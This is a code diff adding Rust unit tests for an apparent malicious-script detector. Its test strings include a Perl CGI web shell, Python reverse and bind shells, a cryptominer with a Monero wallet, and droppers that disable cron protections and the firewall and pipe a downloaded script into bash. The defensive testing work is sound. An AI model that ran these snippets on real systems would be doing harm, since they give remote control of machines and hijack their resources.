@@ -106,3 +106,40 @@ fn ordinary_scripts_are_quiet() {
     let build = "#!/bin/sh\n./configure --prefix=$HOME/.local && make && make install\nrm -rf /tmp/build-$$\n";
     assert_eq!(whys(build), []);
 }
+
+#[test]
+fn what_the_held_out_scripts_taught_is_found() {
+    // A CGI shell opening a pipe from the command it was sent.
+    let cgi = "#!/usr/bin/perl\n%F = parse($ENV{'QUERY_STRING'});\n$cmd = $F{'cmd'};\n\
+               open(CMD, \"($cmd) 2>&1 |\") || print 'failed';\nprint while (<CMD>);\n";
+    assert_eq!(whys(cgi), [Why::ShellFromInput]);
+    // A shell put onto a socket's descriptor by the shell's own redirections.
+    let py = "import socket, os\ns = socket.socket()\ns.connect((h, p))\nf = s.fileno()\n\
+              os.system('/bin/sh -i <&' + str(f) + ' >&' + str(f) + ' 2>&' + str(f))\n";
+    assert_eq!(whys(py), [Why::RemoteShell]);
+    // A command read from a connection and run, without a terminal.
+    let bind = "import socket, os\ns = socket.socket()\ns.bind(('', 4000))\ns.listen(1)\nc, a = s.accept()\n\
+                while True:\n    cmd = c.recv(1024).decode()\n    c.send(os.popen(cmd).read().encode())\n";
+    assert_eq!(whys(bind), [Why::RemoteShell]);
+    // A renamed miner given a pool and a Monero wallet.
+    let wallet = format!("#!/bin/sh\n./job -o pool.example:443 -u 4{} -p x -k &\n", "A".repeat(94));
+    assert_eq!(whys(&wallet), [Why::StartsProgram]);
+    // A dropper unlocking the cron files before it downloads, and one keeping its downloader in
+    // a variable.
+    let unlock = "#!/bin/sh\nchattr -i /etc/crontab\nufw disable\ncurl -fsSL http://files.example/x -o /tmp/x\n";
+    assert_eq!(whys(unlock), [Why::DownloadsProgram]);
+    let ldr =
+        "#!/bin/sh\nLDR=\"wget -q -O -\"\nif [ -x /usr/bin/curl ]; then LDR=\"curl -s\"; fi\n$LDR $HOST/s.sh | bash\n";
+    assert_eq!(whys(ldr), [Why::DownloadsProgram]);
+}
+
+#[test]
+fn servers_and_debuggers_reading_connections_are_quiet() {
+    // A server reads requests and runs a fixed program, not what it read.
+    let server = "import socket, subprocess\ns = socket.socket()\ns.bind(('', 8080))\ns.listen(5)\n\
+                  c, a = s.accept()\nreq = c.recv(4096)\nlog(req)\n"
+        .to_owned()
+        + &"# handling\n".repeat(80)
+        + "subprocess.call(backup_cmd)\n";
+    assert_eq!(whys(&server), []);
+}
